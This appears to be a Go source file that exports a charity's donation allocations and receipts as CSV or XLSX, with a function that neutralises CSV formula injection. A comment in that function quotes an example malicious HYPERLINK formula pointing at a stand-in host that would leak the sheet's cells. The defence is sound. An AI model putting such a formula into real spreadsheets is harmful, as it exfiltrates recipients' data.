// Package export writes a donation's allocations and receipts as a spreadsheet (.xlsx)
// or CSV, one row per allocation, for the charity office's own books and for auditors.
package export

import (
	"encoding/csv"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/xuri/excelize/v2"

	"mzdesk/ent"
	"mzdesk/internal/chinatime"
	"mzdesk/internal/ledger"
	"mzdesk/internal/orgpath"
)

// Header names the columns, in the charity office's words.
var Header = []string{"序号", "接收单位", "区县", "物资", "分配数量", "单位", "状态", "发放时间",
	"签收编号", "签收时间", "实收数量", "拒收数量", "拒收原因", "备注"}

// Rows turns a donation loaded with ledger.WithTrail into table rows. Amounts are exact
// decimals in the item's base unit.
func Rows(d *ent.Donation, counties map[string]string) [][]string {
	var rows [][]string
	for _, l := range d.Edges.Lines {
		it := l.Edges.Item
		for _, a := range l.Edges.Allocations {
			name, path := ledger.Recipient(a)
			row := []string{fmt.Sprint(len(rows) + 1), name, counties[orgpath.County(path)], it.Name,
				a.Quantity.String(), string(it.BaseUnit), string(a.Status), stamp(a.DispatchedAt), "", "", "", "", "", ""}
			if r := a.Edges.Receipt; r != nil {
				reason := ""
				if r.RejectReason != nil {
					reason = string(*r.RejectReason)
				}
				copy(row[8:], []string{r.ReceiptNo, stamp(&r.ConfirmedAt), r.ReceivedQuantity.String(),
					r.RejectedQuantity.String(), reason, r.Note})
			}
			rows = append(rows, row)
		}
	}
	return rows
}

func stamp(t *time.Time) string {
	if t == nil {
		return ""
	}
	return chinatime.Minute(*t)
}

// WriteCSV writes the header and rows as CSV with a byte-order mark, so that spreadsheet
// programs on Chinese Windows read the characters right. Every cell goes through
// Neutralise: the text comes from villages' notes and names.
func WriteCSV(w io.Writer, rows [][]string) error {
	if _, err := io.WriteString(w, "\ufeff"); err != nil {
		return err
	}
	cw := csv.NewWriter(w)
	for _, row := range append([][]string{Header}, rows...) {
		safe := make([]string, len(row))
		for i, c := range row {
			safe[i] = Neutralise(c)
		}
		if err := cw.Write(safe); err != nil {
			return err
		}
	}
	cw.Flush()
	return cw.Error()
}

// Neutralise keeps a CSV cell from being read as a formula by Excel or WPS, which run
// a cell starting with =, +, -, @, a tab or a carriage return (a village's note
// `=HYPERLINK("http://evil.example/?"&A1,"点击")` would send the sheet's cells away):
// such a cell gets a leading apostrophe, OWASP's rule for CSV injection. An .xlsx needs
// none of this: it stores text cells as text.
func Neutralise(cell string) string {
	if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
		return "'" + cell
	}
	return cell
}

// WriteXLSX writes the header and rows as one sheet named for the donation. Amounts stay
// text: a spreadsheet's floats would round them.
func WriteXLSX(w io.Writer, title string, rows [][]string) error {
	f := excelize.NewFile()
	defer f.Close()
	sheet := "分配与签收"
	if err := f.SetSheetName("Sheet1", sheet); err != nil {
		return err
	}
	if err := f.SetCellValue(sheet, "A1", title); err != nil {
		return err
	}
	all := append([][]string{Header}, rows...)
	for i, row := range all {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		vals := make([]any, len(row))
		for j, v := range row {
			vals[j] = v
		}
		if err := f.SetSheetRow(sheet, cell, &vals); err != nil {
			return err
		}
	}
	if err := f.SetColWidth(sheet, "B", "B", 28); err != nil {
		return err
	}
	_, err := f.WriteTo(w)
	return err
}
